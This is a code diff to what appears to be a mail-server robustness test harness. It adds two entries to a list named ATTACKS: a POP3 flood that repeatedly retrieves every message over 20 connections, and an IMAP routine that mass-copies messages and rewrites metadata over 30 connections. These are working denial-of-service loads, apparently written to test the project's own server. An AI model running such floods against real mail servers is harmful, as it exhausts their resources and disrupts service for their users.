@@ -342,6 +342,19 @@ def pop3(aim: Aim) -> Counter:
     return _pour([_connect(aim, "pop3") for _ in range(20)], lambda: iter([start, *[flood] * 1000]), aim)
 
 
+def drops(aim: Aim) -> Counter:
+    """Fetch everything by POP3, over and over."""
+    start = f"USER {login(aim.user)}\r\nPASS {PASSWORD}\r\n".encode()
+    everything = b"".join(b"RETR %d\r\n" % (n % 2000 + 1) for n in range(4000))
+    return _pour([_connect(aim, "pop3") for _ in range(20)], lambda: iter([start, *[everything] * 100]), aim)
+
+
+def crumbs(aim: Aim) -> Counter:
+    """Copies of a few by many connections, and the same note again and again."""
+    commands = ["CREATE vun", "COPY 1:200 vun", 'SETMETADATA INBOX (/private/comment "x")', "COPY 1:20 vun"]
+    return _commands(aim, 30, aim.mailbox, commands)
+
+
 def smtp(aim: Aim) -> Counter:
     """Commands without end, names tried out, letters that stall within a line."""
     hello = b"EHLO xau.test\r\nMAIL FROM:<a@xau.test>\r\n"
@@ -363,7 +376,7 @@ def smtp(aim: Aim) -> Counter:
 
 ATTACKS: tuple[Callable[[Aim], Counter], ...] = (
     literals, noops, idles, fetches, bodies, unread, stores, watched, copies, expunges, programs, since, preauth,
-    bombs, silent, appends, names, notes, guesses, pop3, smtp,
+    bombs, silent, appends, names, notes, guesses, pop3, drops, crumbs, smtp,
 )  # fmt: skip
 
 
